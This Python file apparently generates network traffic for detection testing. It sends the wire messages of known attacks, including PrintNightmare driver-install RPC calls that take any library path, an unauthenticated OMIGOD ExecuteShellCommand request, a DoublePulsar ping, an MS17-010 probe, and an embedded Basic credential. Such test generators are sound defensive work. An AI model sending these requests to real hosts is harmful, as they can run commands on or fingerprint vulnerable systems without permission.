"""Goes through one step of an attack that has a name, without what would make it one: no library is offered, no shellcode
sent, no buffer overrun. What is sent are the messages that show the attack on the wire.
"""

import sys

import requests
from impacket import smb
from impacket.dcerpc.v5 import par, rprn, srvs
from impacket.dcerpc.v5.rpcrt import DCERPCException

from rpc_originator import RESPONDER, pipe, tcp
from rpc_interfaces import INTERFACES
from smb_originator import connected

# [MS-RPRN] 2.2.3.
APD_COPY_ALL_FILES, APD_COPY_FROM_DIRECTORY, APD_INSTALL_WARNED_DRIVER = 0x4, 0x10, 0x8000

OMI_PORT = 5985
COMMAND_URI = "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"
COMMAND = f"""<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"
 xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd">
<s:Header>
<a:To>http://{RESPONDER}:{OMI_PORT}/wsman</a:To>
<w:ResourceURI s:mustUnderstand="true">{COMMAND_URI}</w:ResourceURI>
<a:Action s:mustUnderstand="true">{COMMAND_URI}/ExecuteShellCommand</a:Action>
<a:MessageID>uuid:00000000-0000-0000-0000-000000000001</a:MessageID>
<w:SelectorSet><w:Selector Name="__cimnamespace">root/scx</w:Selector></w:SelectorSet>
</s:Header>
<s:Body><p:ExecuteShellCommand_INPUT xmlns:p="{COMMAND_URI}"><p:command>id</p:command><p:timeout>0</p:timeout>
</p:ExecuteShellCommand_INPUT></s:Body>
</s:Envelope>"""
IDENTIFY = """<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"
 xmlns:wsmid="http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd">
<s:Header/><s:Body><wsmid:Identify/></s:Body></s:Envelope>"""
SOAP = {"Content-Type": "application/soap+xml;charset=UTF-8"}


def driver(path):
    """A printer driver of level 2 whose library is at `path`."""
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    information = container["DriverInfo"]["Level2"]
    information["cVersion"] = 3
    information["pName"] = "Example\0"
    information["pEnvironment"] = "Windows x64\0"
    information["pDriverPath"] = "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\UNIDRV.DLL\0"
    information["pDataFile"] = path + "\0"
    information["pConfigFile"] = "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\UNIDRVUI.DLL\0"
    return container


def add_driver(add, client, path, flags):
    """Whether the spooler takes it does not matter."""
    try:
        add(client, f"\\\\{RESPONDER}\0", driver(path), flags)
    except DCERPCException as error:
        print(error)


def driver_added(path, *unchecked):
    flags = APD_COPY_ALL_FILES | APD_COPY_FROM_DIRECTORY | (APD_INSTALL_WARNED_DRIVER if unchecked else 0)
    with pipe("spoolss", rprn.MSRPC_UUID_RPRN) as client:
        add_driver(rprn.hRpcAddPrinterDriverEx, client, path, flags)


def driver_added_asynchronously(path):
    port = INTERFACES["IRemoteWinspool"][2]
    with tcp(port, par.MSRPC_UUID_PAR) as client:
        add_driver(par.hRpcAsyncAddPrinterDriver, client, path, APD_COPY_ALL_FILES | APD_INSTALL_WARNED_DRIVER)


def certificate_mapped():
    """Operation 74 of the Server service, with four zero bytes for arguments."""
    with pipe("srvsvc", srvs.MSRPC_UUID_SRVS) as client:
        client.call(74, bytes(4))
        try:
            client.recv()
        except DCERPCException as error:
            print(error)


def omi_asked(body, **headers):
    requests.post(f"http://{RESPONDER}:{OMI_PORT}/wsman", data=body, headers=SOAP | headers, timeout=10)


def command_run():
    omi_asked(COMMAND)


def command_run_with_authorization():
    omi_asked(COMMAND, Authorization="Basic YWRtaW5pc3RyYXRvcjpQYXNzdzByZCE=")


def identified():
    """Test-WSMan."""
    omi_asked(IDENTIFY, WSMANIDENTIFY="unauthenticated")


class Smb1:
    """A session of SMB1 with a tree, for commands that impacket has no function for."""

    def __init__(self, share):
        self.connection = connected(smb.SMB_DIALECT)
        self.server = self.connection.getSMBServer()
        self.tree = self.connection.connectTree(share)

    def send(self, message_id, command, parameters, data):
        packet = smb.NewSMBPacket()
        packet["Tid"], packet["Mid"] = self.tree, message_id
        content = smb.SMBCommand(command)
        content["Parameters"], content["Data"] = parameters, data
        packet.addCommand(content)
        self.server.sendSMB(packet)

    def answered(self):
        return self.server.recvSMB()


class Words(smb.SMBCommand_Parameters):
    structure = (("Words", ":"),)


def words(data):
    parameters = Words()
    parameters["Words"] = data
    return parameters


def little(*fields):
    """Pairs of a number and its length in bytes."""
    return b"".join(number.to_bytes(length, "little") for number, length in fields)


def transaction2(session, message_id, sub_command, parameters=b"", data=b"", all_data=None):
    """TRANSACTION2 ([MS-CIFS] 2.2.4.46.1); with `all_data` bytes of data in all, of which `data` are the first."""
    before = 32 + 1 + 2 * 15 + 2 + 3
    session.send(
        message_id,
        smb.SMB.SMB_COM_TRANSACTION2,
        words(
            little((len(parameters), 2), (all_data or len(data), 2), (64, 2), (1024, 2), (0, 1), (0, 1), (0, 2), (0, 4))
            + little((0, 2), (len(parameters), 2), (before, 2), (len(data), 2), (before + len(parameters), 2))
            + little((1, 1), (0, 1), (sub_command, 2))
        ),
        bytes(3) + parameters + data,
    )


def implant_asked():
    """DoublePulsar's ping: TRANSACTION2 SESSION_SETUP with the multiplex id 0x41."""
    session = Smb1("IPC$")
    transaction2(session, 0x41, 0x0E, parameters=bytes(12))
    session.answered()


def pipe_peeked():
    """The look for MS17-010: PEEK_NMPIPE of the pipe 0, which is none."""
    session = Smb1("IPC$")
    name = b"\\PIPE\\\0".decode().encode("utf-16-le")
    before = 32 + 1 + 2 * 16 + 2 + 1 + len(name)
    session.send(
        0x41,
        smb.SMB.SMB_COM_TRANSACTION,
        words(
            little((0, 2), (0, 2), (0xFFFF, 2), (0xFFFF, 2), (0, 1), (0, 1), (0, 2), (0, 4), (0, 2))
            + little((0, 2), (before, 2), (0, 2), (before, 2), (2, 1), (0, 1), (0x23, 2), (0, 2))
        ),
        b"\0" + name,
    )
    session.answered()


def transactions_continued():
    """What clients may do: an NT_TRANSACT with its data in two parts, then a TRANSACTION2 with its data in two parts,
    each with a multiplex id of its own. None of them asks for anything that there is."""
    session = Smb1("share")
    nt_transaction(session, 0x50, 2, all_data=8, data=bytes(4))
    session.answered()
    nt_transaction_secondary(session, 0x50, all_data=8, data=bytes(4), displacement=4)
    session.answered()
    transaction2(session, 0x51, 6, parameters=bytes(8), data=bytes(4), all_data=8)
    session.answered()
    transaction2_secondary(session, 0x51, all_data=8, data=bytes(4), displacement=4)
    session.answered()


def nt_transaction(session, message_id, function, data, all_data):
    """NT_TRANSACT ([MS-CIFS] 2.2.4.62.1)."""
    before = 32 + 1 + 2 * 19 + 2 + 3
    session.send(
        message_id,
        smb.SMB.SMB_COM_NT_TRANSACT,
        words(
            little((0, 1), (0, 2), (0, 4), (all_data, 4), (64, 4), (1024, 4), (0, 4), (before, 4))
            + little((len(data), 4), (before, 4), (0, 1), (function, 2))
        ),
        bytes(3) + data,
    )


def nt_transaction_secondary(session, message_id, data, all_data, displacement):
    """NT_TRANSACT_SECONDARY ([MS-CIFS] 2.2.4.63.1)."""
    before = 32 + 1 + 2 * 18 + 2 + 1
    session.send(
        message_id,
        0xA1,
        words(
            little((0, 3), (0, 4), (all_data, 4), (0, 4), (before, 4), (0, 4))
            + little((len(data), 4), (before, 4), (displacement, 4), (0, 1))
        ),
        b"\0" + data,
    )


def transaction2_secondary(session, message_id, data, all_data, displacement):
    """TRANSACTION2_SECONDARY ([MS-CIFS] 2.2.4.47.1)."""
    before = 32 + 1 + 2 * 9 + 2 + 1
    session.send(
        message_id,
        0x33,
        words(
            little((0, 2), (all_data, 2), (0, 2), (before, 2), (0, 2))
            + little((len(data), 2), (before, 2), (displacement, 2), (0, 2))
        ),
        b"\0" + data,
    )


if __name__ == "__main__":
    procedure, *arguments = sys.argv[1:]
    globals()[procedure](*arguments)
